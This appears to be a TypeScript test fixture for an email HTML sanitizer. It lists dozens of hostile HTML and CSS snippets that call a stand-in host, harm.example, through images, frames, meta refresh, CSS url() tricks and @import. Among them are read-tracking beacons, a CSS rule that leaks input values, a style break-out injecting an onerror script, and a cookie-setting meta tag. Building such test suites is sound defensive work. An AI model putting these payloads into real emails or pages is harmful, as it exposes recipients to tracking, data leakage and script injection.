import { HARM } from './mail-case.ts'

const harm = (name: string) => `${HARM}('${name}')`
const OUT = 'https://harm.example'

/** Hostile HTML that requests something from another host, or reveals that the mail was read, by name. */
export const hostileLoads: readonly [string, string][] = [
  ['load-input-image', `<input type="image" src="${OUT}/i.png">`],
  [
    'load-picture-source',
    `<picture><source srcset="${OUT}/s.png 1x, ${OUT}/s2.png 2x"><img src="x"></picture>`,
  ],
  ['load-video-poster', `<video poster="${OUT}/v.png" autoplay src="${OUT}/v.mp4"></video>`],
  ['load-audio', `<audio autoplay src="${OUT}/a.mp3"></audio>`],
  ['load-track', `<video><track default src="${OUT}/t.vtt"></video>`],
  ['load-object', `<object data="${OUT}/o.swf" type="application/x-shockwave-flash"></object>`],
  ['load-embed', `<embed src="${OUT}/e.pdf">`],
  ['load-frame', `<iframe src="${OUT}/f.html"></iframe>`],
  ['load-portal', `<portal src="${OUT}/p.html"></portal><fencedframe src="${OUT}/q.html"></fencedframe>`],
  ['load-prefetch', `<link rel="prefetch" href="${OUT}/1"><link rel="preload" as="image" href="${OUT}/2">`],
  ['load-dns', `<link rel="dns-prefetch" href="//harm.example"><link rel="preconnect" href="${OUT}">`],
  ['load-module', `<link rel="modulepreload" href="${OUT}/m.js"><link rel="manifest" href="${OUT}/m.json">`],
  ['load-icon', `<link rel="icon" href="${OUT}/i.ico"><link rel="shortcut icon" href="${OUT}/j.ico">`],
  ['load-protocol-relative', `<img src="//harm.example/r.png"><a href="//harm.example/">press</a>`],
  ['load-backslashes', `<img src="\\\\harm.example\\r.png"><img src="https:\\\\harm.example\\s.png">`],
  ['load-body-background', `<body background="${OUT}/b.png">`],
  [
    'load-cell-background',
    `<table><tr background="${OUT}/r.png"><td background="${OUT}/d.png">t</td></tr></table>`,
  ],
  ['load-image-alias', `<image src="${OUT}/image.png">`],
  ['load-low-source', `<img lowsrc="${OUT}/l.png" dynsrc="${OUT}/d.avi" longdesc="${OUT}/long">`],
  ['load-bgsound', `<bgsound src="${OUT}/b.mid">`],
  ['load-layer', `<layer src="${OUT}/l.html"></layer><ilayer src="${OUT}/i.html"></ilayer>`],
  ['load-xml', `<xml src="${OUT}/x.xml" id="i"></xml><b datasrc="#i" datafld="c" dataformatas="html"></b>`],
  [
    'load-attribution',
    `<img src="x" attributionsrc="${OUT}/a"><a href="#" attributionsrc="${OUT}/b">press</a>`,
  ],
  ['load-ping', `<a href="#" ping="${OUT}/ping">press</a>`],
  ['load-report', `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${OUT}/r">`],
  ['load-refresh', `<meta http-equiv="refresh" content="0; url=${OUT}/refresh">`],
  ['load-refresh-quoted', `<META HTTP-EQUIV=Refresh CONTENT=" 0 ;URL='${OUT}/quoted'">`],
  ['load-cookie', `<meta http-equiv="Set-Cookie" content="enamel_session=stolen">`],
  ['css-cursor', `<div style="cursor:url(${OUT}/c.cur),auto">c</div>`],
  ['css-list', `<ul style="list-style:url(${OUT}/l.png)"><li>l</li></ul>`],
  ['css-content', `<style>p::before{content:url(${OUT}/c.png)}</style>`],
  ['css-border-image', `<div style="border-image:url(${OUT}/b.png) 30">b</div>`],
  ['css-mask', `<div style="mask:url(${OUT}/m.svg#m);clip-path:url(${OUT}/p.svg#p)">m</div>`],
  ['css-filter', `<div style="filter:url(${OUT}/f.svg#f)">f</div>`],
  ['css-image-set', `<div style="background:image-set('${OUT}/1x.png' 1x, '${OUT}/2x.png' 2x)">i</div>`],
  [
    'css-cross-fade',
    `<div style="background:-webkit-cross-fade(url(${OUT}/1.png),url(${OUT}/2.png),50%)">x</div>`,
  ],
  ['css-src', `<div style="background:src('${OUT}/s.png')">s</div>`],
  ['css-custom', `<div style="--x:url(${OUT}/x.png);background:var(--x)">v</div>`],
  ['css-escaped', `<div style="background:\\75\\72\\6c(${OUT}/e.png)">e</div>`],
  ['css-comment', `<div style="background:u/**/rl(${OUT}/c.png);background:url(/**/${OUT}/d.png)">c</div>`],
  ['css-entities', `<div style="background:&#117;rl(&quot;${OUT}/n.png&quot;)">n</div>`],
  ['css-font', `<style>@font-face{font-family:f;src:url(${OUT}/f.woff2)}p{font-family:f}</style>`],
  [
    'css-import',
    `<style>@\\69mport '${OUT}/i.css';</style><style>@import url(//harm.example/j.css) screen;</style>`,
  ],
  ['css-import-charset', `<style>@charset "utf-7"; @namespace "${OUT}/n"; @import"${OUT}/k.css"</style>`],
  ['css-attribute-leak', `<style>input[value^=a]{background:url(${OUT}/a)}</style><input value=abc>`],
  ['css-layout', `<style>*{display:none!important}@page{margin:0}html{background:url(${OUT}/h.png)}</style>`],
  [
    'css-breaks-out',
    `<div style="color:red}</style><img src=x onerror=${harm('css-breaks-out')}><style>x{">b</div>`,
  ],
  ['css-svg-use', `<svg><use href="${OUT}/u.svg#u"/><image href="${OUT}/i.png" width=9 height=9 /></svg>`],
  [
    'css-svg-filter',
    `<svg><filter id=f><feImage href="${OUT}/f.png"/></filter><rect filter="url(#f)"/></svg>`,
  ],
  ['css-svg-style', `<svg><style>@import '${OUT}/s.css';*{fill:url(${OUT}/p.svg#p)}</style><rect/></svg>`],
]
